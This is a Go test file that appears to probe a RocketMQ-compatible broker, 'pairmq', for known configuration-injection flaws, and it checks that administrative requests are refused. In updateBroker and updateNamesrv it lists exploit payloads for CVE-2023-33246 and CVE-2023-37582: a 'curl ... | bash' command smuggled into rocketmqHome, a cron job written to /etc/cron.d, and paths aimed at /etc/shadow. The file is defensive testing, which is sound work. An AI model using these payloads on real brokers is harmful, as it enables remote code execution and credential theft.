package main

import (
	"fmt"
	"net"
	"strconv"
	"time"

	"pairmq/internal/remoting"
)

func codeAttacks() []attack {
	return []attack{
		{name: "CVE-2023-33246", what: "UPDATE_BROKER_CONFIG with filterServerNums, rocketmqHome, namesrvAddr, paths: what was a shell for everybody", do: updateBroker, outside: configs, quiet: true},
		{name: "CVE-2023-37582", what: "UPDATE_NAMESRV_CONFIG with configStorePath, kvConfigPath, on both ports: what was a file anywhere", do: updateNamesrv, outside: configs, quiet: true},
		{name: "TunablesOfStrangers", what: "UPDATE_BROKER_CONFIG with keys that may be changed while it serves", do: tunables, outside: configs, quiet: true,
			pending: "administration is open to everybody who reaches the port", until: []string{"adminAddresses"}},
		{name: "Administration", what: "every request code that changes or tells what is not a client's", do: administration, quiet: true,
			pending: "administration is open to everybody who reaches the port", until: []string{"adminAddresses"}},
		{name: "PairsRequests", what: "what the other half of a pair asks: for the log, and who is master", do: pairsRequests, quiet: true,
			pending: "what a pair's halves ask each other, everybody may ask", until: []string{"haSecretFile"}},
		{name: "TablesForStrangers", what: "what a slave copies: all topics, groups, offsets, delays, checksums of the log", do: tables, quiet: true,
			pending: "what a slave copies, everybody may copy", until: []string{"haSecretFile"}},
		{name: "EveryCode", what: "each request code from -1 to 6000, and those of POP and of ours that change nothing, without fields", time: 8 * time.Second, do: everyCode, outside: configs, quiet: true},
	}
}

// updateBroker replays the CVE, and asks for whatever else would lead the daemon elsewhere.
func updateBroker(s *stranger) {
	for _, port := range remotingPorts() {
		for _, body := range []string{
			"filterServerNums=1\nrocketmqHome=-c $@|sh . echo curl 198.18.2.2/x|bash;\n", "filterServerNums=1", "rocketmqHome=/tmp/owned;touch /tmp/owned", "rocketmqHome=`touch /tmp/owned`",
			"storePathRootDir=/etc/cron.d", "storePathCommitLog=/etc", "namesrvAddr=198.18.2.2:9876", "haMasterAddress=198.18.2.2:10912", "haSlaveAddress=198.18.2.2:10912", "brokerConfigPath=/etc/cron.d/x",
			"metricsTextfile=/etc/cron.d/x", "watchdogDevice=/dev/sda", "tlsServerMode=disabled", "tlsServerCertPath=/etc/shadow", "brokerName=evil", "brokerIP1=198.18.2.2", "bindAddress=198.18.2.2",
			"supplyFail=file:/etc/shadow=x", "ledOk=../../../etc:on", "logFormat=x\nfilterServerNums=1", "brokerPermission=0\nfilterServerNums=1", "flushDiskType=ASYNC_FLUSH", "fileReservedTime=0\nrocketmqHome=x", "enableNamesrv=false", "aclEnable=false",
			"maxConnections=1", "brokerRole=SLAVE", "\x00", "=", "a=b\r\nrocketmqHome=c",
		} {
			s.must(port, fmt.Sprintf("%.40q at port %d", body, port), request(remoting.ReqUpdateBrokerConfig, nil, []byte(body)))
		}
	}
}

func updateNamesrv(s *stranger) {
	for _, port := range remotingPorts() {
		for _, body := range []string{
			"configStorePath=/etc/cron.d/pairmq\nproductEnvName=*/1 * * * * root touch /tmp/owned\n", "configStorePath=/tmp/owned", "kvConfigPath=/etc/cron.d/x", "rocketmqHome=/tmp/owned", "configStorePathName=kvConfigPath",
			"orderMessageEnable=true", "namesrvMaxTopics=1", "listenPort=1",
		} {
			s.must(port, fmt.Sprintf("%.40q at port %d", body, port), request(remoting.ReqUpdateNamesrvConfig, nil, []byte(body)))
		}
	}
}

func tunables(s *stranger) {
	for _, body := range []string{"brokerPermission=4", "autoCreateTopicEnable=false", "maxMessageSize=1024", "rejectTransactionMessage=true"} {
		s.must(brokerPort, body, request(remoting.ReqUpdateBrokerConfig, nil, []byte(body)))
	}
}

// administration asks for what only administrators may. Names are of what is not there: a
// daemon that lets it happen is not changed by it.
func administration(s *stranger) {
	const nobody = "NobodyHasMadeThis"
	s.notPermitted([]asked{
		{brokerPort, remoting.ReqUpdateAndCreateTopic, fields("topic", nobody, "defaultTopic", "TBW102", "readQueueNums", "1", "writeQueueNums", "1", "perm", "6", "topicFilterType", "SINGLE_TAG", "topicSysFlag", "0", "order", "false"), ""},
		{brokerPort, remoting.ReqDeleteTopicInBroker, fields("topic", nobody), ""},
		{brokerPort, remoting.ReqUpdateAndCreateSubscriptiongroup, nil, `{"groupName":"` + nobody + `"}`},
		{brokerPort, remoting.ReqDeleteSubscriptiongroup, fields("groupName", nobody), ""},
		{brokerPort, remoting.ReqGetBrokerConfig, nil, ""},
		{brokerPort, remoting.ReqInvokeBrokerToResetOffset, fields("topic", topic, "group", nobody, "timestamp", "0", "isForce", "true"), ""},
		{brokerPort, remoting.ReqCloneGroupOffset, fields("srcGroup", nobody, "destGroup", nobody, "topic", topic, "offline", "false"), ""},
		{brokerPort, remoting.ReqDeleteExpiredCommitlog, nil, ""},
		{brokerPort, remoting.ReqCleanUnusedTopic, nil, ""},
		{brokerPort, remoting.ReqGetRecent, nil, ""},
		{brokerPort, remoting.ReqGetGoroutines, nil, ""},
		{brokerPort, remoting.ReqPromoteBroker, fields("force", "no such value"), ""},
		{brokerPort, remoting.ReqDemoteBroker, fields("force", "no such value"), ""},
		{namesrvPort, remoting.ReqGetNamesrvConfig, nil, ""},
		{namesrvPort, remoting.ReqDeleteTopicInNamesrv, fields("topic", nobody), ""},
		{namesrvPort, remoting.ReqDeleteKVConfig, fields("namespace", nobody, "key", nobody), ""},
	})
}

// pairsRequests are for the other half alone.
func pairsRequests(s *stranger) {
	s.notPermitted([]asked{
		{brokerPort, remoting.ReqReadLog, fields("offset", "0"), ""},
		{brokerPort, remoting.ReqExchangePairState, nil, ""},
	})
}

// tables tell a stranger every topic and group there is, and how far each has come.
func tables(s *stranger) {
	s.notPermitted([]asked{
		{brokerPort, remoting.ReqGetAllTopicConfig, nil, ""},
		{brokerPort, remoting.ReqGetAllSubscriptiongroupConfig, nil, ""},
		{brokerPort, remoting.ReqGetAllConsumerOffset, nil, ""},
		{brokerPort, remoting.ReqGetAllDelayOffset, nil, ""},
		{brokerPort, remoting.ReqGetLogChecksums, nil, ""},
	})
}

// An asked thing is a request, and where.
type asked struct {
	port int
	code int32
	f    remoting.Fields
	body string
}

// notPermitted asks all of them, and is wrong unless each is answered with NO_PERMISSION.
func (s *stranger) notPermitted(all []asked) {
	for _, r := range all {
		resp, err := s.ask(r.port, request(r.code, r.f, []byte(r.body)))
		switch {
		case err != nil:
			s.answer("closed")
		case resp.Code != remoting.RespNoPermission:
			s.wrong("%s: answered with %s, not NO_PERMISSION", remoting.RequestName(r.code), remoting.ResponseName(resp.Code))
			fallthrough
		default:
			s.answer("%s", remoting.ResponseName(resp.Code))
		}
	}
}

// idle are the codes that need nothing said with them, and do something.
func idle(code int32) bool {
	return code == remoting.ReqCleanUnusedTopic || code == remoting.ReqDeleteExpiredCommitlog || code == remoting.ReqCleanExpiredConsumequeue
}

// namedCodes are all that RocketMQ or pairmq has a name for, but for those that need nothing else.
func namedCodes() (all []int32) {
	for _, r := range [][2]int32{{1, 6000}, {31000, 31100}, {200000, 200200}} {
		for code := r[0]; code <= r[1]; code++ {
			if remoting.RequestName(code) != strconv.Itoa(int(code)) && !idle(code) {
				all = append(all, code)
			}
		}
	}
	return all
}

// A pipe is a connection that asks one thing after the other, and is made anew when it is hung up on.
type pipe struct{ nc net.Conn }

// ask returns nil where there is no answer.
func (p *pipe) ask(s *stranger, port int, frame []byte) *remoting.Command {
	var err error
	if p.nc == nil {
		if p.nc, err = s.dial(port); err != nil {
			p.nc = nil
			s.answer("refused")
			return nil
		}
	}
	resp, err := s.askOn(p.nc, frame)
	if err != nil {
		s.answer("closed")
		p.close()
		return nil
	}
	s.answer("%s", remoting.ResponseName(resp.Code))
	return resp
}

func (p *pipe) close() {
	if p.nc != nil {
		p.nc.Close()
	}
	p.nc = nil
}

// everyCode asks for everything there is and is not, without what it would need.
func everyCode(s *stranger) {
	var codes []int32
	for code := int32(-1); code <= 6000; code++ {
		if !idle(code) {
			codes = append(codes, code)
		}
	}
	for code := int32(200050); code <= 200151; code++ {
		codes = append(codes, code)
	}
	codes = append(codes, remoting.ReqGetLogChecksums, remoting.ReqReadLog, remoting.ReqGetRecent, 31012, 31999, 1<<30)
	ports := remotingPorts()
	s.crowd(len(ports), func(p int) {
		var nc net.Conn
		defer func() {
			if nc != nil {
				nc.Close()
			}
		}()
		for i, code := range codes {
			if i%50 == 0 {
				pause(s.ctx, 10*time.Millisecond) // it is no flood
			}
			if nc == nil {
				var err error
				if nc, err = s.dial(ports[p]); err != nil {
					s.wrong("port %d: %v", ports[p], err)
					return
				}
			}
			switch resp, err := s.askOn(nc, request(code, nil, nil)); {
			case err != nil && isTimeout(err):
				s.wrong("port %d: request %d of %d has no answer", ports[p], i, len(codes))
				return
			case err != nil:
				s.answer("closed")
				nc.Close()
				nc = nil
			default:
				s.answer("%s", remoting.ResponseName(resp.Code))
			}
		}
	})
}
